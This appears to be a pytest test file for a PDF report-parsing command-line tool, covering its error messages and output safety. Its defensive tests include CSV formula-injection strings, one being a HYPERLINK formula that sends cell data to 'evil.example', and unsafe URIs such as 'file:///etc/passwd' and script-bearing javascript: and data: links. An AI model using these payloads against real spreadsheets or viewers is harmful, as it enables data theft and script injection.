"""One test per class of bad input, through the real command line: each ends in one line
``reportparse: error: <file>: <message>`` on stderr, exit status 1 and no traceback (unless
``--debug``). Also the output-safety promises: CSV formula injection, JSON escaping and the
URI scheme filter.
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import shutil
from pathlib import Path
from typing import Any

import orjson
import pytest
from typer.testing import CliRunner

from reportparse import api, cli, emit, errors
from reportparse.model import Link, Page, Warning
from reportparse.parse.entry_fields import filter_links
from reportparse.profile import Limits

pytest.importorskip("reportlab")

from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

runner = CliRunner()

FIXTURES = Path(__file__).parent / "fixtures"
FIXTURE_PDF = FIXTURES / "pdf" / "plain-numbering.pdf"  # 4 pages
CORPUS = Path(
    os.environ.get("REPORTPARSE_CORPUS")
    or Path(__file__).resolve().parents[1].parent / "shared" / "corpus" / "broken"
)
PNG_HEAD = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64


@pytest.fixture(autouse=True)
def _no_ghostscript(monkeypatch: pytest.MonkeyPatch) -> None:
    """Damaged files must fail the same way whether or not Ghostscript is installed."""
    monkeypatch.setenv("REPORTPARSE_GHOSTSCRIPT", "off")
    monkeypatch.delenv("REPORTPARSE_PASSWORD", raising=False)


def run(*args: str) -> Any:
    return runner.invoke(cli.app, list(args))


def error_line(result: Any, path: Path | str) -> str:
    """Given a CliRunner result, check exit 1 and one traceback-free line; return the message."""
    assert result.exit_code == 1, (result.exit_code, result.output)
    assert result.stdout == ""
    lines = [line for line in result.stderr.splitlines() if not line.startswith("warning: ")]
    assert len(lines) == 1, result.stderr
    assert "Traceback" not in result.stderr
    assert "internal error" not in result.stderr
    prefix = f"reportparse: error: {path}: "
    assert lines[0].startswith(prefix), lines[0]
    return lines[0][len(prefix) :]


def text_pdf(path: Path, pages: list[list[str]], **kwargs: Any) -> Path:
    """Given lines per page, write a simple Latin-text PDF with reportlab."""
    c = canvas.Canvas(str(path), pagesize=A4, **kwargs)
    for lines in pages:
        c.setFont("Helvetica", 12)
        for index, line in enumerate(lines):
            c.drawString(72, 750 - 20 * index, line)
        c.showPage()
    c.save()
    return path


# --------------------------------------------------------------------------- the file itself


def test_not_found(tmp_path: Path) -> None:
    path = tmp_path / "missing.pdf"
    assert error_line(run("extract", str(path)), path) == "file not found"


def test_folder_is_not_readable(tmp_path: Path) -> None:
    assert error_line(run("extract", str(tmp_path)), tmp_path) == "is a folder, not a file"


def test_unreadable_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "locked.pdf"
    shutil.copyfile(FIXTURE_PDF, path)
    path.chmod(0)
    if os.access(path, os.R_OK):  # root reads anything: pretend the permission check fails
        real_access = os.access
        monkeypatch.setattr(
            api.os, "access", lambda p, mode: False if Path(p) == path else real_access(p, mode)
        )
    try:
        message = error_line(run("extract", str(path)), path)
    finally:
        path.chmod(0o644)
    assert message == "permission denied: the file is not readable"


def test_unreadable_between_check_and_open(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # The permission check passes, then opening fails (e.g. an ACL or a network share).
    path = tmp_path / "flaky.pdf"
    shutil.copyfile(FIXTURE_PDF, path)
    real_open = Path.open

    def deny(self: Path, *args: Any, **kwargs: Any) -> Any:
        if self == path:
            raise PermissionError(13, "Permission denied", str(self))
        return real_open(self, *args, **kwargs)

    monkeypatch.setattr(Path, "open", deny)
    message = error_line(run("extract", str(path)), path)
    assert message == "cannot read the file: Permission denied"


def test_empty_file(tmp_path: Path) -> None:
    path = tmp_path / "empty.pdf"
    path.write_bytes(b"")
    assert error_line(run("extract", str(path)), path) == "the file is empty (0 bytes)"


@pytest.mark.parametrize(
    ("head", "looks_like"),
    [
        (PNG_HEAD, "PNG image data"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 32, "JPEG image data"),
        (b"PK\x03\x04" + b"\x00" * 40, "a ZIP archive (or a .docx/.xlsx office file)"),
        (b"<!DOCTYPE html><html><body>Login</body></html>", "an HTML page"),
        (bytes(range(256)) * 4, "binary data"),
    ],
    ids=["png", "jpeg", "zip", "html", "binary"],
)
def test_not_a_pdf_says_what_it_looks_like(tmp_path: Path, head: bytes, looks_like: str) -> None:
    path = tmp_path / "attachment.pdf"
    path.write_bytes(head)
    message = error_line(run("extract", str(path)), path)
    assert message == f"not a PDF: the file looks like {looks_like}"


def test_plain_text_named_pdf(tmp_path: Path) -> None:
    path = tmp_path / "notes.pdf"
    path.write_text("just some notes\n", encoding="utf-8")
    message = error_line(run("extract", str(path)), path)
    assert message == "not a PDF: it holds plain text; rename it to .txt to read it as a text dump"


# --------------------------------------------------------------------------- damaged PDFs


def test_truncated_pdf(tmp_path: Path) -> None:
    data = FIXTURE_PDF.read_bytes()
    path = tmp_path / "truncated.pdf"
    path.write_bytes(data[: len(data) // 2])
    message = error_line(run("extract", str(path)), path)
    assert message.startswith("the PDF is damaged: ") or message.startswith("the PDF has no pages")
    assert "repair the file" in message


def test_pdf_header_only(tmp_path: Path) -> None:
    path = tmp_path / "header.pdf"
    path.write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    message = error_line(run("extract", str(path)), path)
    assert message.startswith("the PDF is damaged: opening the file failed: ")
    assert message.endswith("try --engine pdfium, or repair the file (e.g. qpdf in.pdf out.pdf)")


def test_pdf_without_pages(tmp_path: Path) -> None:
    path = tmp_path / "nopages.pdf"
    c = canvas.Canvas(str(path))
    c.save()  # reportlab writes one blank page; strip the page tree's kids instead
    data = path.read_bytes().replace(b"/Count 1", b"/Count 0")
    kids_at = data.index(b"/Kids [")
    end = data.index(b"]", kids_at)
    data = data[: kids_at + 7] + b" " * (end - kids_at - 7) + data[end:]
    path.write_bytes(data)
    message = error_line(run("extract", str(path)), path)
    assert message.startswith("the PDF has no pages (its page tree is empty or unreadable)")


def test_damaged_error_with_debug_shows_traceback(tmp_path: Path) -> None:
    path = tmp_path / "header.pdf"
    path.write_bytes(b"%PDF-1.7\n")
    result = run("--debug", "extract", str(path))
    assert result.exit_code == 1
    assert "Traceback" in result.stderr
    assert result.stderr.rstrip().splitlines()[-1].startswith("reportparse: error: ")


def fake_ghostscript(tmp_path: Path, body: str) -> Path:
    script = tmp_path / "fake-gs"
    script.write_text("#!/bin/sh\n" + body + "\n", encoding="utf-8")
    script.chmod(0o755)
    return script


@pytest.mark.skipif(os.name != "posix", reason="a shell script stands in for Ghostscript")
def test_damaged_pdf_is_repaired_through_ghostscript(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    gs = fake_ghostscript(tmp_path, f"cat '{FIXTURE_PDF}'")
    monkeypatch.setenv("REPORTPARSE_GHOSTSCRIPT", str(gs))
    path = tmp_path / "header.pdf"
    path.write_bytes(b"%PDF-1.7\n")
    result = run("extract", str(path), "-o", str(tmp_path / "out.json"))
    assert result.exit_code == 0, result.output
    assert result.stderr.startswith("warning: repaired: read a copy Ghostscript repaired; ")
    data = orjson.loads((tmp_path / "out.json").read_bytes())
    assert data["entries"]
    assert data["source"]["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.skipif(os.name != "posix", reason="a shell script stands in for Ghostscript")
@pytest.mark.parametrize(
    "body", ["exit 1", "echo not a pdf", "exec sleep 20"], ids=["fails", "junk", "hangs"]
)
def test_failed_repair_keeps_the_original_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, body: str
) -> None:
    from reportparse.read import repair

    monkeypatch.setenv("REPORTPARSE_GHOSTSCRIPT", str(fake_ghostscript(tmp_path, body)))
    monkeypatch.setattr(repair, "REPAIR_TIMEOUT", 1.0)
    path = tmp_path / "header.pdf"
    path.write_bytes(b"%PDF-1.7\n")
    message = error_line(run("extract", str(path)), path)
    assert message.startswith("the PDF is damaged: opening the file failed: ")


def test_repair_with_real_ghostscript(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    gs = shutil.which("gs")
    if gs is None:
        pytest.skip("Ghostscript (gs) is not installed: pdfplumber's repair route is not tried")
    monkeypatch.setenv("REPORTPARSE_GHOSTSCRIPT", gs)
    data = FIXTURE_PDF.read_bytes()
    path = tmp_path / "noxref.pdf"
    path.write_bytes(data[: data.rindex(b"xref")])  # no cross-reference table, no trailer
    result = run("text", str(path))
    assert result.exit_code in (0, 1)
    assert "Traceback" not in result.stderr


# --------------------------------------------------------------------------- encryption


@pytest.fixture
def encrypted_pdf(tmp_path: Path) -> Path:
    return text_pdf(tmp_path / "locked.pdf", [["Secret text"]], encrypt="s3cret")


def test_encrypted_without_password(encrypted_pdf: Path) -> None:
    message = error_line(run("extract", str(encrypted_pdf)), encrypted_pdf)
    assert message == "the PDF is encrypted; give its password with --password"


def test_encrypted_with_wrong_password(encrypted_pdf: Path) -> None:
    result = run("extract", str(encrypted_pdf), "--password", "wrong")
    message = error_line(result, encrypted_pdf)
    assert message == "wrong password: the PDF does not open with the one given; check --password"


def test_encrypted_with_password_from_environment(
    encrypted_pdf: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("REPORTPARSE_PASSWORD", "s3cret")
    result = run("text", str(encrypted_pdf))
    assert result.exit_code == 0, result.output
    assert "Secret text" in result.stdout


def test_corpus_password_example() -> None:
    path = CORPUS / "pdfplumber__password-example.pdf"
    if not path.exists():
        pytest.skip(f"public corpus not found at {CORPUS}")
    message = error_line(run("extract", str(path)), path)
    assert "--password" in message
    assert "wrong password" in error_line(run("extract", str(path), "--password", "nope"), path)
    result = run("text", str(path), "--password", "test")
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("=== page 1 ===")


# --------------------------------------------------------------------------- no text layer


def image_pdf(path: Path, pages: int) -> Path:
    image_module = pytest.importorskip("PIL.Image")
    from reportlab.lib.utils import ImageReader

    c = canvas.Canvas(str(path), pagesize=A4)
    for _ in range(pages):
        c.drawImage(ImageReader(image_module.new("L", (16, 16), 200)), 72, 400, 400, 400)
        c.showPage()
    c.save()
    return path


def test_scanned_pdf_names_pages_and_ocr(tmp_path: Path) -> None:
    path = image_pdf(tmp_path / "scan.pdf", pages=3)
    message = error_line(run("extract", str(path)), path)
    assert message == (
        "no text layer on pages 1-3: the PDF looks scanned (pages are images); "
        "run OCR on it first (for example with ocrmypdf)"
    )


def test_scanned_selected_page(tmp_path: Path) -> None:
    path = image_pdf(tmp_path / "scan.pdf", pages=3)
    message = error_line(run("extract", str(path), "--pages", "2"), path)
    assert message.startswith("no text layer on pages 2: ")
    assert "OCR" in message


def test_blank_pages_name_the_pages_and_ocr(tmp_path: Path) -> None:
    path = text_pdf(tmp_path / "blank.pdf", [[], []])
    message = error_line(run("extract", str(path)), path)
    assert message.startswith("no text layer on pages 1-2: the pages hold neither characters")
    assert message.endswith("run OCR on it first (for example with ocrmypdf)")


# --------------------------------------------------------------------------- no entries


def test_no_entries_lists_missing_markers(tmp_path: Path) -> None:
    path = text_pdf(tmp_path / "letter.pdf", [["Dear reader,", "this is an ordinary letter."]])
    message = error_line(run("extract", str(path)), path)
    assert message.startswith("no entries found: no numbered title line such as '1. 标题'")
    assert "no field label '发布日期：', '来源：', '链接：'" in message
    assert "no section heading (政策速递, 行业新闻, 交易资讯)" in message
    assert "Run `reportparse text FILE` to see the cleaned text" in message


def test_no_entries_when_every_line_is_a_running_line(tmp_path: Path) -> None:
    # The same line on every page is taken for a running header: say so, not "no text".
    path = text_pdf(tmp_path / "potato.pdf", [["Potato"], ["Potato"], ["Potato"]])
    message = error_line(run("extract", str(path)), path)
    assert message.startswith("no entries found: ")
    assert "running header" in message
    assert "reportparse text" in message


def test_no_entries_in_a_text_dump(tmp_path: Path) -> None:
    path = tmp_path / "notes.txt"
    path.write_text(" 1. 标题一\n\n正文没有字段\n", encoding="utf-8")
    message = error_line(run("extract", str(path)), path)
    assert message.startswith("no entries found: no field label")
    assert "reportparse text" in message


# --------------------------------------------------------------------------- limits


def test_max_pages_limit() -> None:
    message = error_line(run("extract", str(FIXTURE_PDF), "--max-pages", "1"), FIXTURE_PDF)
    assert message == "the PDF has more than 1 pages; raise the limit with --max-pages"


def test_max_chars_per_page_limit() -> None:
    result = run("extract", str(FIXTURE_PDF), "--max-chars-per-page", "10")
    message = error_line(result, FIXTURE_PDF)
    assert message == (
        "page 1 has more than 10 characters; raise the limit with --max-chars-per-page"
    )


def test_text_dump_limits(tmp_path: Path) -> None:
    path = tmp_path / "dump.txt"
    path.write_text(" page one\n\n page two\n\n page three\n", encoding="utf-8")
    message = error_line(run("extract", str(path), "--max-pages", "2"), path)
    assert message == "3 pages is more than the limit of 2; raise it with --max-pages"
    message = error_line(run("extract", str(path), "--max-chars-per-page", "5"), path)
    assert message.endswith("raise it with --max-chars-per-page")


def test_limits_have_sane_defaults() -> None:
    assert Limits().max_pages == 2000
    assert Limits().max_chars_per_page == 200_000
    result = run("extract", str(FIXTURE_PDF), "--max-pages", "0")
    assert result.exit_code == 2
    assert "--max-pages must be at least 1" in result.stderr


def test_every_error_class_has_its_own_code() -> None:
    classes = [
        cls
        for cls in vars(errors).values()
        if isinstance(cls, type) and issubclass(cls, errors.ReportParseError)
    ]
    codes = [cls.code for cls in classes]
    assert len(set(codes)) == len(codes)
    for cls in classes:
        assert cls.exit_code == (2 if cls is errors.UsageError else 1)


# --------------------------------------------------------------------------- output safety


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1",
        "-1+2",
        "@SUM(A1:A9)",
        "\tcmd",
        "\r=1+1",
        "=1+1",
    ],
)
def test_csv_cells_are_neutralised_against_formulas(text: str) -> None:
    record = {"file": "a.pdf", "period": "2024-09", "title": text, "summary": text, "pages": [1, 1]}
    data = emit.csv_text([record], bom=True)
    assert data.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(data[1:], newline="")))
    header, row = rows
    assert row[header.index("title")] == "'" + text
    assert row[header.index("summary")] == "'" + text
    assert row[header.index("file")] == "a.pdf"


def test_csv_leaves_ordinary_and_numeric_cells_alone() -> None:
    record = {"title": "2024年 -某事", "number": -1, "pages": [3, 4], "source": "新华社"}
    _, row = list(csv.reader(io.StringIO(emit.csv_text([record]), newline="")))
    assert row[emit.CSV_COLUMNS.index("title")] == "2024年 -某事"
    assert row[emit.CSV_COLUMNS.index("number")] == "-1"  # a number is data, not a formula
    assert row[emit.CSV_COLUMNS.index("page_start")] == "3"


def test_json_keeps_raw_text_and_escapes_control_characters() -> None:
    title = '=HYPERLINK("x")\u2028line\u2029sep\x00nul\x1b[31m\t"quote"\\ </script>'
    issue = {"entries": [{"title": title, "summary": "\r-1"}]}
    data = emit.issue_json(issue, pretty=False)
    assert b"\x00" not in data
    assert b"\x1b" not in data
    assert b"\t" not in data  # control characters are escaped, never raw
    assert b"\\u0000" in data
    assert b"\\u001b" in data
    assert orjson.loads(data) == issue  # the text itself is kept unchanged in JSON
    lines = emit.jsonl_bytes(emit.entry_records(issue, "a.pdf"))
    assert lines.count(b"\n") == 1  # one record, one line, whatever the text holds
    assert orjson.loads(lines)["title"] == title


def test_unsafe_uri_schemes_are_dropped_with_a_warning() -> None:
    uris = [
        "https://example.com/a",
        "http://example.com/b",
        "mailto:office@example.com",
        "javascript:alert(1)",
        "file:///etc/passwd",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox",
        "ftp://example.com/x",
    ]
    warnings: list[Warning] = []
    kept = filter_links([Link(text=None, uri=uri, page=1) for uri in uris], warnings)
    assert [link.uri for link in kept] == uris[:3]
    dropped = [w.message for w in warnings]
    assert all(w.code == "unsafe-uri" for w in warnings)
    assert len(dropped) == 4  # javascript: is a no-op link, dropped silently
    assert not any("javascript" in message for message in dropped)


def test_image_page_warning_leaves_the_document_alone() -> None:
    # One scanned page among text pages is a warning, and parsing again repeats nothing.
    fixture = Path(__file__).parent / "fixtures" / "pdf" / "banner-outline.pdf"
    document = api.read(fixture)
    image_page = Page(number=len(document.pages) + 1, lines=[], image_count=1, char_count=0)
    document.pages.append(image_page)
    before = list(document.warnings)
    first, second = api.parse_document(document), api.parse_document(document)
    assert document.warnings == before
    for issue in (first, second):
        codes = [warning.code for warning in issue.warnings]
        assert codes.count("no-text-layer") == 1
